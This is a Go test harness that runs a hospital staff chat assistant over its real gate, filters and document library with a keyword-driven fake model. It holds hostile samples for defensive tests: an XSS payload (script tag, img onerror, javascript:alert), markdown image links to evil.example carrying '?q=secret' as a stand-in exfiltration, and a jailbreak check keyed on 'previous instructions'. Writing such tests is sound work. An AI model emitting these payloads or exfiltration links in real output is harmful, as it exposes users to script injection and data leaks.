// Package webtest runs the pages over the real gate, directory, filter, exchange
// and library, in memory and with the demo's documents. Only what answers is a
// fake: a word in the question chooses what it does, so that a test can bring
// about every state of the page.
package webtest

import (
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"path/filepath"
	"strings"
	"sync"
	"testing/fstest"
	"time"

	"sallyport/guard"
	"sallyport/guard/blocklist"
	"sallyport/internal/backend/extractive"
	"sallyport/internal/chat"
	"sallyport/internal/conversation"
	"sallyport/internal/custody/content"
	"sallyport/internal/custody/content/open"
	"sallyport/internal/custody/seal"
	"sallyport/internal/custody/store"
	"sallyport/internal/demo/corpus"
	"sallyport/internal/exchange"
	"sallyport/internal/filter"
	"sallyport/internal/gate"
	"sallyport/internal/gate/access"
	"sallyport/internal/gate/identity"
	"sallyport/internal/gate/quota"
	"sallyport/internal/knowledge"
	"sallyport/internal/record/audit"
	"sallyport/internal/resource"
	"sallyport/internal/surface/httpx"
	"sallyport/internal/surface/web"
)

// Canary stands in every document that only the group "sealed-off" may read, and
// in its title.
const Canary = "zanzibar-canary-7731"

// Payload is a document title and text that would run if a page ever made
// markup of it.
const Payload = `<img src=x onerror="window.__fired=1"><script>window.__fired=1</script>`

// World is the running whole.
type World struct {
	URL       string
	Library   *knowledge.Library
	Chat      *chat.Service
	Directory *identity.Directory
	Surface   *web.Surface
	Record    *Record
	Members   map[corpus.Account]identity.Member

	server *http.Server
	conns  sync.Map // open net.Conn
	store  *store.SQL
}

// Options of a world.
type Options struct {
	Dir    string // for the database
	Limits chat.Limits
	Idle   time.Duration // of sessions
	Listen string        // "" is a free port on loopback
	Log    *slog.Logger
}

// Record keeps what the gate recorded.
type Record struct {
	mu      sync.Mutex
	entries []audit.Entry
	Broken  bool // writing fails
}

// Append implements gate.Recorder.
func (r *Record) Append(_ context.Context, e audit.Entry) (audit.Receipt, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.Broken {
		return audit.Receipt{}, errors.New("the disk is full")
	}
	r.entries = append(r.entries, e)
	return audit.Receipt{Index: int64(len(r.entries))}, nil
}

// Entries are what was recorded so far.
func (r *Record) Entries() []audit.Entry {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]audit.Entry(nil), r.entries...)
}

// Break makes writing fail, or work again.
func (r *Record) Break(broken bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.Broken = broken
}

// Start starts a world. Stop ends it.
func Start(ctx context.Context, o Options) (*World, error) {
	if o.Log == nil {
		o.Log = slog.New(slog.NewTextHandler(io.Discard, nil))
	}
	w := &World{Record: &Record{}, Members: map[corpus.Account]identity.Member{}}
	var err error
	if w.store, err = store.OpenSQLite(ctx, filepath.Join(o.Dir, "state.db"), seal.NewKey()); err != nil {
		return nil, err
	}
	if w.Directory, err = identity.Open(ctx, identity.Config{Store: w.store, Key: seal.NewKey(), SessionIdle: o.Idle}); err != nil {
		return nil, err
	}
	table := &access.Memory{}
	for _, g := range []string{corpus.AllStaff} {
		err := table.Put(ctx, access.Assignment{Role: access.ChatUser, Subject: access.Subject{Kind: access.GroupSubject, ID: g}, Scope: access.Resource("ward")})
		if err != nil {
			return nil, err
		}
	}
	rights, err := access.Open(ctx, access.Config{Table: table})
	if err != nil {
		return nil, err
	}
	names := map[corpus.Account]string{corpus.Nurse: "Ward nurse", corpus.Analyst: "Finance analyst", corpus.Administrator: "Administrator"}
	for _, a := range corpus.Accounts {
		if w.Members[a], err = w.Directory.NewMember(ctx, names[a], a.Groups()...); err != nil {
			return nil, err
		}
	}
	g, err := gate.New(gate.Config{Identity: w.Directory, Access: rights, Quota: quota.New(), Log: w.Record})
	if err != nil {
		return nil, err
	}
	home := resource.Region{Name: "onsite", Geography: "uk"}
	backend := &resource.Backend{Name: "quotes", Kind: "extractive", Region: home,
		Terms: resource.Terms{SelfHosted: true, Owner: "platform-team", Expires: time.Now().AddDate(1, 0, 0)}}
	res := &resource.Resource{Name: "ward", Region: home, Network: resource.Network{Public: true}, Deployments: map[string]*resource.Deployment{
		"assistant": {Name: "assistant", Model: resource.Model{Name: "quotes", Can: resource.Chat}, Type: resource.Standard, Filter: "staff",
			Limits: resource.Limits{OutputTokens: 2048, ContextTokens: 32000}, Backends: []*resource.Backend{backend}},
	}}
	embedded, err := filter.NewGuards()
	if err != nil {
		return nil, err
	}
	list, err := blocklist.Compile("project-names", []blocklist.Term{{Text: "Project Nightjar"}})
	if err != nil {
		return nil, err
	}
	medium := filter.Threshold{At: 4}
	policy, err := filter.New(filter.Config{Name: "staff", Guards: steady{embedded},
		Prompt: filter.Rules{Harm: [4]filter.Threshold{medium, medium, medium, medium}},
		Answer: filter.Rules{Harm: [4]filter.Threshold{medium, medium, medium, medium}, Blocklists: []*blocklist.List{list}},
	})
	if err != nil {
		return nil, err
	}
	answers := &scenes{extractive: extractive.New(extractive.Config{Name: "quotes"})}
	x, err := exchange.New(exchange.Config{
		Policy:  func(string) filter.Policy { return policy },
		Backend: func(*resource.Deployment, *resource.Backend) exchange.Backend { return answers },
	})
	if err != nil {
		return nil, err
	}
	key := make([]byte, 32)
	_, _ = rand.Read(key)
	if w.Library, err = knowledge.Open(ctx, knowledge.Config{Key: key, Collections: append(corpus.Collections(), odd()...)}); err != nil {
		return nil, err
	}
	lib := unknowable{w.Library}
	w.Chat = chat.New(chat.Config{
		Library: lib, System: content.New("Answer from the documents only."), MaxTokens: 2048, Limits: o.Limits, Log: o.Log,
		Screen: func(ctx context.Context, c *conversation.Conversation) (guard.Report, error) {
			r, _, err := policy.Prompt(ctx, c)
			return r, err
		},
	})
	w.Surface, err = web.New(web.Config{
		Door: web.Gated{Gate: g, Directory: w.Directory, Exchange: x}, Chat: w.Chat, Library: lib, Resource: res, Deployment: "assistant",
		Organisation: "Wellmoor Hospital Trust", Scope: "Procedures and rules of Wellmoor Hospital Trust, for its staff.",
		Examples: func(_ context.Context, p identity.Principal) []string {
			for a, m := range w.Members {
				if m.ID == p.ID {
					return a.Examples()
				}
			}
			return nil
		}, Log: o.Log,
	})
	if err != nil {
		return nil, err
	}
	settings := httpx.Settings{Log: o.Log}
	server, counters := httpx.NewServer(httpx.Guard(w.Surface, httpx.Guarded{Log: o.Log}), settings)
	w.server = server
	state := w.server.ConnState
	w.server.ConnState = func(c net.Conn, s http.ConnState) {
		switch s {
		case http.StateNew:
			w.conns.Store(c, nil)
		case http.StateClosed, http.StateHijacked:
			w.conns.Delete(c)
		}
		state(c, s)
	}
	if o.Listen == "" {
		o.Listen = "127.0.0.1:0"
	}
	l, err := net.Listen("tcp", o.Listen)
	if err != nil {
		return nil, err
	}
	w.URL = "http://" + l.Addr().String()
	go func() { _ = w.server.Serve(httpx.Listen(l, settings, counters)) }()
	return w, nil
}

// Link makes a one-time sign-in link.
func (w *World) Link(ctx context.Context, a corpus.Account) (string, error) {
	secret, err := w.Directory.NewLink(ctx, w.Members[a].ID, time.Hour)
	return w.URL + "/sign-in/" + secret.Reveal(), err
}

// Cut cuts every connection, as a network that fails.
func (w *World) Cut() {
	w.conns.Range(func(c, _ any) bool {
		_ = c.(net.Conn).Close()
		return true
	})
}

// Stop ends the world.
func (w *World) Stop(ctx context.Context) error {
	err := w.Chat.Close(ctx)
	return errors.Join(err, w.server.Close(), w.store.Close())
}

// odd are documents that try something.
func odd() []knowledge.Collection {
	doc := func(title, body string) *fstest.MapFile {
		return &fstest.MapFile{Data: fmt.Appendf(nil, "---\ntitle: %s\nupdated: 2026-11-01\nlanguage: en\nclassification: official\n---\n# Notes\n\n%s\n", title, body)}
	}
	return []knowledge.Collection{
		{ID: "odd", Name: "Markup samples", Owner: "web-office", Language: "en", Files: fstest.MapFS{
			"access.csv": {Data: []byte("document,kind,name\n*.md,group,clinical\n")},
			"markup.md":  doc("'Markup "+Payload+"'", "The quokka rota shows "+Payload+" and javascript:alert(1) as plain words. The quokka rota is printed on Mondays."),
		}},
		{ID: "sealed", Name: "Sealed " + Canary, Owner: "nobody", Language: "en", Files: fstest.MapFS{
			"access.csv": {Data: []byte("document,kind,name\n*.md,group,sealed-off\n")},
			"secret.md":  doc("Sealed "+Canary, "The visitors of adult wards and the medicines fridge appear here with the word "+Canary+"."),
		}},
	}
}

// unknowable cannot read the groups of who asks about "groupsunknown".
type unknowable struct{ *knowledge.Library }

func (u unknowable) Search(ctx context.Context, who identity.Principal, q content.Text, k int) (knowledge.Result, error) {
	if strings.Contains(open.String(q), "groupsunknown") {
		return knowledge.Result{}, knowledge.ErrGroupsUnknown
	}
	// The word that chooses the scene is not searched for.
	if _, rest, ok := strings.Cut(open.String(q), ": "); ok {
		q = content.New(rest)
	}
	return u.Library.Search(ctx, who, q, k)
}

// steady are guards whose verdicts do not move with the weights: the embedded
// ones for lists, a word for jailbreaks and self-harm, and a word that breaks them.
type steady struct{ filter.Guards }

func (s steady) Judge(ctx context.Context, text string, q filter.Questions) (filter.Findings, error) {
	f, err := s.Guards.Judge(ctx, text, filter.Questions{Lists: q.Lists})
	low := strings.ToLower(text)
	if strings.Contains(low, "guardfail") {
		return filter.Findings{}, errors.New("broken")
	}
	f.Jailbreak = filter.Attack{Detected: q.Jailbreak && strings.Contains(low, "previous instructions"), Score: 1}
	if q.Harm && strings.Contains(low, "hurt myself") {
		f.Severity[3] = 6
	}
	return f, err
}

// scenes answers as a word in the question says; without one it quotes.
type scenes struct{ extractive *extractive.Backend }

func (s *scenes) Embed(ctx context.Context, p gate.Permit, r exchange.EmbedRequest) ([]exchange.Vector, conversation.Usage, error) {
	return s.extractive.Embed(ctx, p, r)
}

func (s *scenes) Stream(ctx context.Context, p gate.Permit, c *conversation.Conversation) conversation.Stream {
	last := c.Turns[len(c.Turns)-1]
	question := open.String(last.Parts[0].Text)
	var passages []string
	for _, part := range last.Parts[1:] {
		passages = append(passages, open.String(part.Text))
	}
	text, pace, finish := "", time.Duration(0), conversation.Stop
	switch {
	case strings.Contains(question, "slowly"):
		pace = 100 * time.Millisecond
		for i := range 40 {
			text += fmt.Sprintf("%s\n\n", firstSentence(passages[i%len(passages)]))
		}
	case strings.Contains(question, "droning"):
		pace, text = 100*time.Millisecond, strings.Repeat("Visitors help patients to recover. ", 60)
	case strings.Contains(question, "markup"):
		text = "The quokka rota is printed on Mondays [7]. " + Payload + "\n\n[click](javascript:alert(1)) and ![image](https://evil.example/x.png?q=secret) and <https://evil.example/auto>【3†source】\n\n" +
			"| a | " + Payload + " |\n|---|---|\n| 1 | [x][1] |\n\n[1]: https://evil.example/ref\n"
	case strings.Contains(question, "invent"):
		text = firstSentence(passages[0]) + " The hospital roof is painted turquoise every leap year by volunteers.\n\n- " + firstSentence(passages[0]) + "\n- The canteen serves pelican soup on bank holidays.\n"
	case strings.Contains(question, "everything"):
		text = "## In short\n\n" + firstSentence(passages[0]) + " It is **important** to follow *each* step, and `code` stays code.\n\n1. " + firstSentence(passages[0]) +
			"\n2. Then the second step follows the first.\n   - with a detail below it\n\n> " + firstSentence(passages[0]) + "\n\n```\nset --option value\n```\n\n| Item | Limit |\n|---|---|\n| Fridge | 2 to 8 degrees |\n| Room | 25 degrees |\n"
	case strings.Contains(question, "withhold"):
		text = firstSentence(passages[0]) + "\n\nThis belongs to Project Nightjar and to nobody else in the whole of the trust.\n"
	case strings.Contains(question, "overload"):
		return failed(&exchange.UpstreamError{Backend: "quotes", Fault: exchange.Overloaded})
	case strings.Contains(question, "limited"):
		return failed(&exchange.UpstreamError{Backend: "quotes", Fault: exchange.Limited, RetryAfter: 12})
	case strings.Contains(question, "shorten"):
		text, finish = firstSentence(passages[0])+"\n", conversation.Length
	default:
		return s.extractive.Stream(ctx, p, c)
	}
	return func(yield func(conversation.Event, error) bool) {
		lane := conversation.Lane{Kind: conversation.Text}
		if !yield(conversation.Event{Kind: conversation.Started, Model: "scenes"}, nil) {
			return
		}
		cut := "\n"
		if strings.Contains(question, "droning") {
			cut = ". " // one long paragraph
		}
		for piece := range strings.SplitAfterSeq(text, cut) {
			if pace > 0 {
				select {
				case <-time.After(pace):
				case <-ctx.Done():
					yield(conversation.Event{}, ctx.Err())
					return
				}
			}
			if !yield(conversation.Event{Kind: conversation.Delta, Lane: lane, Text: content.New(piece)}, nil) {
				return
			}
		}
		if yield(conversation.Event{Kind: conversation.Finished, Finish: finish}, nil) {
			yield(conversation.Event{Kind: conversation.UsageTold, Usage: conversation.Usage{Prompt: 10, Completion: 10, Total: 20}}, nil)
		}
	}
}

func failed(err error) conversation.Stream {
	return func(yield func(conversation.Event, error) bool) { yield(conversation.Event{}, err) }
}

func firstSentence(s string) string {
	for strings.HasPrefix(s, "#") {
		_, s, _ = strings.Cut(s, "\n")
		s = strings.TrimSpace(s)
	}
	s = strings.Join(strings.Fields(s), " ")
	if i := strings.Index(s, ". "); i > 0 {
		return s[:i+1]
	}
	return s
}
